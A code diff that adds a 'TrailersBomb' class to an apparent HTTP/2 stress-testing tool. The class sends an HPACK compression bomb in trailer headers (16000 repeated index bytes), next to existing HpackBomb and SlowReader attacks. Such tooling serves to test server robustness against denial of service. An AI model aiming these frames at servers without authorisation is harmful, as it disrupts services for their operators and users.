@@ -175,6 +175,15 @@ class HpackBomb(Attack):
         return frame(HEADERS, END_STREAM | END_HEADERS, self.next_stream(), GET + b"\xbe" * 16000)
 
 
+class TrailersBomb(HpackBomb):
+    """The same in trailers."""
+
+    def more(self):
+        stream = self.next_stream()
+        return (frame(HEADERS, END_HEADERS, stream, UPLOAD) +
+                frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\xbe" * 16000))
+
+
 class SlowReader(Attack):
     """Opens all windows and takes what comes byte by byte."""
     reads = False
